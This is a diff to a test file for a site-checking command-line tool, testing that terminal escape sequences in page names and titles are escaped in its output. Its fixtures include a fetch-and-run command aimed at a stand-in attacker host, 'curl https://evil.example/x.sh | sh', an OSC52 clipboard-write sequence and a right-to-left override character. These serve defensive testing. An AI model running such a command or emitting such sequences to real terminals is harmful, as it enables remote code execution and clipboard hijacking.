@@ -338,7 +338,7 @@ describe('site text on the terminal and in written files', () => {
     const config = minimalConfig(['introduction', `gone${CLEAR}`], { name: `Acme${OSC52}\ncurl https://evil.example/x.sh | sh\n# Injected` });
     writeSiteToDisk(path.join(dir, 'site'), {
       ...exampleSite(config, ['introduction']),
-      // A title (YAML \e and \a are ESC and BEL) that the page-title rule quotes: it is the file name.
+      // A page whose name (and title: YAML \e and \a are ESC and BEL) holds the sequence; orphan-page quotes its name.
       [`note${OSC52}-x.mdx`]: `---\ntitle: "note${OSC52.replace('\u001b', '\\e').replace('\u0007', '\\a')}-x"\ndescription: "A note."\n---\n\nText.\n`,
       [`orphan${OSC52}\u202e.mdx`]: '---\ntitle: "Orphan"\ndescription: "Not in the navigation."\n---\n\nText.\n',
     });
@@ -351,7 +351,7 @@ describe('site text on the terminal and in written files', () => {
     assert.doesNotMatch(r.stdout + r.stderr, RAW);
     assert.match(r.stdout, /No page file for navigation entry "gone\\u001b\[2J\\u009b2J"/);
     assert.match(r.stdout, /^site\/orphan\\u001b\]52;c;Y3VybCBldmlsIHwgc2g=\\u0007\\u202e\.mdx:/m);
-    assert.match(r.stdout, /The title "note\\u001b\]52;c;Y3VybCBldmlsIHwgc2g=\\u0007-x" is the file name/);
+    assert.match(r.stdout, /"note\\u001b\]52;c;Y3VybCBldmlsIHwgc2g=\\u0007-x" is in no navigation group/);
     const json = run(['check', 'site', '--format', 'json'], dir);
     assert.doesNotMatch(json.stdout, RAW);
     const findings = JSON.parse(json.stdout) as { file: string; message: string }[];
